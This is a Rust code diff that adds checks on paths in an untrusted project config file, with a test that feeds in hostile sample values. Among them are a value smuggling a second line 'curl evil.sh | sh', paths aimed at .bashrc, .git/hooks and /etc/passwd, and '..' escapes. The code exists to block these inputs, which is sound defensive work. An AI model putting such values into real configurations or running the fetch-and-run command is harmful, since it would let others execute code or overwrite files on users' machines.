@@ -183,9 +183,77 @@ fn layer(table: toml::Table, source: &str) -> Result<toml::Table> {
                 e.to_string().trim().replace('\n', " ")
             ))
         })?;
+        check_value(canon, &v).map_err(|m| cfg_err(format!("key `{k}`: {m}")))?;
         out.insert(canon.to_string(), v);
     }
     Ok(out)
+}
+
+/// Longest lock wait a setting may ask for: a hook waits at most this long for another writer.
+const MAX_LOCK_TIMEOUT_MS: i64 = 600_000;
+
+/// Checks beyond the type. A repository's `trilogy.toml` is untrusted input (hooks run in any
+/// repository an agent opens), so every path it names must stay inside the workspace and hold
+/// nothing that could break out of the text it is written into.
+fn check_value(key: &str, v: &toml::Value) -> std::result::Result<(), String> {
+    match (key, v) {
+        ("memory_dir_name" | "boot_block_file", toml::Value::String(s)) => check_rel_path(s),
+        ("project_root_markers", toml::Value::Array(items)) => items
+            .iter()
+            .filter_map(toml::Value::as_str)
+            .try_for_each(check_rel_path),
+        ("lock_timeout_ms", toml::Value::Integer(n)) if *n > MAX_LOCK_TIMEOUT_MS => Err(format!(
+            "{n} ms is longer than the {MAX_LOCK_TIMEOUT_MS} ms a session start may wait; use a smaller value"
+        )),
+        _ => Ok(()),
+    }
+}
+
+/// A relative path inside the workspace, written with characters that need no escaping in the
+/// Markdown and the git attribute lines it is substituted into.
+fn check_rel_path(s: &str) -> std::result::Result<(), String> {
+    let shown = s.escape_debug();
+    if s.is_empty() {
+        return Err("empty; give a relative path inside the project, e.g. \"memory\"".into());
+    }
+    if s.chars().any(char::is_control) {
+        return Err(format!(
+            "\"{shown}\" holds a control character (newline, tab, …); use a plain relative path"
+        ));
+    }
+    if s.starts_with('/') || s.starts_with('\\') || s.contains(':') {
+        return Err(format!(
+            "\"{shown}\" is absolute; it must be a relative path inside the project"
+        ));
+    }
+    let allowed = |c: char| c.is_alphanumeric() || matches!(c, '.' | '_' | '-' | '/');
+    if let Some(c) = s.chars().find(|c| !allowed(*c)) {
+        return Err(format!(
+            "\"{shown}\" holds `{c}`; use letters, digits, `.`, `_`, `-` and `/`"
+        ));
+    }
+    for part in s.split('/') {
+        match part {
+            "" | "." => {}
+            ".." => {
+                return Err(format!(
+                    "\"{shown}\" climbs out of the project with `..`; it must stay inside it"
+                ));
+            }
+            ".git" | ".trilogy" => {
+                return Err(format!(
+                    "\"{shown}\" points into `{part}/`, which trilogy never writes to; choose another folder"
+                ));
+            }
+            _ => {}
+        }
+    }
+    if s.split('/').all(|p| p.is_empty() || p == ".") {
+        return Err(format!(
+            "\"{shown}\" names the project folder itself; give a path inside it"
+        ));
+    }
+    Ok(())
 }
 
 fn parse_value(key: &str, raw: &str, source: &str) -> Result<toml::Table> {
@@ -309,6 +377,51 @@ mod tests {
             "env TRILOGY_LOCK_TIMEOUT_MS"
         );
         assert_eq!(loaded.sources["enabled"], "default");
+    }
+
+    #[test]
+    fn paths_that_leave_the_workspace_are_refused_with_file_and_key() {
+        let dir = tempfile::tempdir().unwrap();
+        for (line, says) in [
+            ("boot_block_file = \"/home/u/.bashrc\"", "absolute"),
+            ("boot_block_file = \"../../.bashrc\"", "climbs out"),
+            ("memory_dir_name = \"../victim\"", "climbs out"),
+            ("memory_dir_name = \"/tmp/victim\"", "absolute"),
+            (
+                "memory_dir_name = \"memory\\ncurl evil.sh | sh\"",
+                "control character",
+            ),
+            ("memory_dir_name = \"mem`x`\"", "holds `"),
+            ("memory_dir_name = \".git/hooks\"", "never writes"),
+            ("boot_block_file = \".trilogy/store.redb\"", "never writes"),
+            ("memory_dir_name = \"./\"", "project folder itself"),
+            ("project_root_markers = [\"../..\"]", "climbs out"),
+            ("lock_timeout_ms = 99999999999", "longer than"),
+        ] {
+            let f = write(dir.path(), "trilogy.toml", &format!("{line}\n"));
+            let e = load(&LoadArgs {
+                workspace_file: Some(f.clone()),
+                ..Default::default()
+            })
+            .unwrap_err()
+            .to_string();
+            let key = line.split(' ').next().unwrap();
+            assert!(
+                e.contains("trilogy.toml") && e.contains(key) && e.contains(says),
+                "{line}: {e}"
+            );
+        }
+        // the same rule for the environment and --set
+        let e = load(&LoadArgs {
+            env: vec![("TRILOGY_BOOT_BLOCK_FILE".into(), "/etc/passwd".into())],
+            ..Default::default()
+        })
+        .unwrap_err()
+        .to_string();
+        assert!(e.contains("absolute"), "{e}");
+        for ok in ["memory", "docs/memory", "记忆", "AGENTS.local.md"] {
+            check_rel_path(ok).unwrap();
+        }
     }
 
     #[test]
